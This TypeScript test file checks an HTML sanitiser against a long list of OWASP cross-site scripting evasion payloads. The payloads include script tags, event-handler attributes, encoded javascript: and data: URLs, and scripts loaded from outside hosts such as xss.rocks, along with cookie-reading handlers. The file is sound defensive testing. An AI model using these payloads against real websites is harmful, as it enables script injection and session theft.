// The OWASP XSS Filter Evasion Cheat Sheet against the news sanitiser: whatever goes in, what
// comes out is only our allow-listed tags with vetted attributes, and no URL that runs code.
import { decodeEntities, sanitiseHtml } from './sanitise-html';

const KEPT_ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'rel', 'target'],
  img: ['src', 'alt'],
};
const KEPT_TAGS = ['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'ul', 'ol', 'li', 'blockquote', 'h3', 'h4', 'a', 'img'];
const TAG = /<(\/?)([^\s/>]*)([^>]*)>/g;
// sanitize-html writes every attribute as name="value" with the value's quotes escaped.
const ATTRIBUTE = /\s+([^\s=]+)="([^"]*)"/g;
const RUNS_CODE = /^(javascript|vbscript|data|livescript|mocha):/i;
const SAFE_URL = /^(https?:\/\/|mailto:|\/uploads\/)/i;

/** Fails unless `out` is inert: every checked property the brief promises, spelled out. */
function expectInert(input: string, out: string): void {
  const context = { input, out };
  // Text never holds a raw < or >: every one of them belongs to a tag we wrote.
  expect({ ...context, stray: out.replace(TAG, '').match(/[<>]/g) }).toEqual({ ...context, stray: null });
  for (const [, , rawName, attributeText] of out.matchAll(TAG)) {
    const name = (rawName ?? '').toLowerCase();
    expect({ ...context, tag: name, kept: KEPT_TAGS.includes(name) }).toEqual({ ...context, tag: name, kept: true });
    const attributes = [...(attributeText ?? '').matchAll(ATTRIBUTE)];
    // Nothing in the tag besides well-formed attributes (no unquoted leftovers to break out with).
    expect({ ...context, rest: (attributeText ?? '').replace(ATTRIBUTE, '').trim() }).toEqual({ ...context, rest: '' });
    for (const [, attribute, value] of attributes) {
      const allowed = KEPT_ATTRIBUTES[name] ?? [];
      expect({ ...context, attribute, allowed: allowed.includes(attribute ?? '') }).toEqual({ ...context, attribute, allowed: true });
      if (attribute === 'href' || attribute === 'src') {
        // eslint-disable-next-line no-control-regex -- browsers skip these inside a scheme, so the check does too.
        const url = decodeEntities(value ?? '').replace(/[\u0000-\u0020\u007f-\u009f]/g, '');
        expect({ ...context, url, runsCode: RUNS_CODE.test(url), safe: SAFE_URL.test(url) }).toEqual({ ...context, url, runsCode: false, safe: true });
      }
    }
  }
  expect(out).not.toMatch(/<\s*\/?\s*(script|iframe|object|embed|style|svg|math|meta|link|base|body|form|input|frame|frameset|table|div)\b/i);
  expect(out).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(out).not.toMatch(/<[^>]*\s(style|background|dynsrc|lowsrc|formaction|xlink:href)\s*=/i);
}

// From https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, plus
// the link forms operators' news actually uses.
const CASES: Array<[name: string, html: string]> = [
  ['script tag', "<script>alert('XSS')</script>"],
  ['external script', '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>'],
  ['script with slash for a space', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['script, no space before src', '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['extraneous open bracket', '<<SCRIPT>alert("XSS");//<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'],
  ['protocol-relative script', '<SCRIPT SRC=//xss.rocks/.j>'],
  ['script split by a tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['end title, then script', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['CDATA around script', '<![CDATA[<script>alert(1)</script>]]>after'],
  ['img javascript: quoted', `<IMG SRC="javascript:alert('XSS');">`],
  ['img javascript: unquoted', "<IMG SRC=javascript:alert('XSS')>"],
  ['img javascript: mixed case', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['img javascript: with HTML entities', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ['img javascript: in grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['img fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  [
    'img decimal entities',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  ],
  [
    'img long decimal entities, no semicolons',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  ],
  [
    'img hex entities, no semicolons',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  ],
  ['img embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['img encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['img encoded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['img encoded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['img null byte in scheme', '<IMG SRC=java\0script:alert("XSS")>'],
  ['img spaces and meta characters before scheme', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['img malformed quotes', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['img onmouseover with src #', `<IMG SRC=# onmouseover="alert('xxs')">`],
  ['img empty src and onmouseover', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['img no src', `<IMG onmouseover="alert('xxs')">`],
  ['img onerror', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  [
    'img onerror, encoded',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  ],
  ['img onerror on an allowed source', '<img src="https://x.test/a.png" onerror=alert(1)>'],
  ['img src and onerror from alt', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['img data: URL', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['img dynsrc', `<IMG DYNSRC="javascript:alert('XSS')">`],
  ['img lowsrc', `<IMG LOWSRC="javascript:alert('XSS')">`],
  ['img style expression', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ['input image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['body background', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['body onload', "<BODY ONLOAD=alert('XSS')>text"],
  ['body onload with odd characters', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>text'],
  ['svg onload', "<svg/onload=alert('XSS')>"],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg style smuggling an img', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['math with xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['bgsound', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['stylesheet link', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['style list-style-image', `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ['style @import', "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"],
  ['style attribute with url', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`],
  ['style attribute expression', `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`],
  ['style attribute on an allowed tag', `<p style="xss:expression(alert('XSS'))">x</p>`],
  ['meta refresh to javascript:', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ['meta refresh to data:', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ['iframe', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['iframe, unterminated', '<iframe src=http://xss.rocks/scriptlet.html <'],
  ['frameset', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['table background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ['base href', `<BASE HREF="javascript:alert('XSS');//">`],
  ['object scriptlet', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'],
  ['embed swf', '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>'],
  [
    'embed data: svg',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml"></EMBED>',
  ],
  ['form action', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['comment hiding an img', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['link javascript:', '<a href="javascript:alert(1)">x</a>'],
  ['link encoded tab in scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['link encoded newline in scheme', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['link decimal-encoded j', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['link &colon;', '<a href="javascript&colon;alert(1)">x</a>'],
  ['link leading spaces, mixed case', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['link vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['link data:', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['link onmouseover quoted', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['link onmouseover unquoted', '<a onmouseover=alert(document.cookie)>xxs link</a>'],
  ['link breaking out of its href', '<a href=\'https://a.test/"onmouseover="alert(1)\'>x</a>'],
  ['link breaking out, unquoted', '<a href=https://a.test/?"onmouseover=alert(1)//>x</a>'],
  ['link with its own target and rel', '<a href="https://a.test/" target="_self" rel="opener" onclick="x()">x</a>'],
  ['alt breaking out of the tag', `<img src="https://a.test/x.png" alt='"><script>alert(1)</script>'>`],
  ['stray quoted attribute', '<p title="x" "onmouseover=alert(1)">y</p>'],
  ['unknown tag with style behaviour', '<XSS STYLE="behavior: url(xss.htc);">x</XSS>'],
];

describe('sanitiseHtml against the OWASP XSS filter evasion cases', () => {
  it.each(CASES)('%s: nothing executable survives', (_name, html) => {
    expectInert(html, sanitiseHtml(html));
  });

  it('keeps what is safe next to what it removes', () => {
    expect(sanitiseHtml('<p onclick="x()">a <a href="https://a.test/" onclick="x()">b</a></p><script>c</script>')).toBe(
      '<p>a <a href="https://a.test/" rel="noopener noreferrer nofollow" target="_blank">b</a></p>',
    );
    expect(sanitiseHtml('<a href="https://a.test/" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://a.test/" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(sanitiseHtml('<a href="mailto:ir@a.test">ir</a>')).toBe('<a href="mailto:ir@a.test" rel="noopener noreferrer nofollow" target="_blank">ir</a>');
  });

  it('the check itself fails on executable markup', () => {
    for (const bad of [
      '<img src="x" onerror="alert(1)">',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<iframe src="https://a.test"></iframe>',
      '<p style="x">y</p>',
      '<a href=javascript:alert(1)>x</a>',
      '<img src="data:image/png;base64,AAAA">',
    ])
      expect(() => expectInert(bad, bad)).toThrow();
  });
});
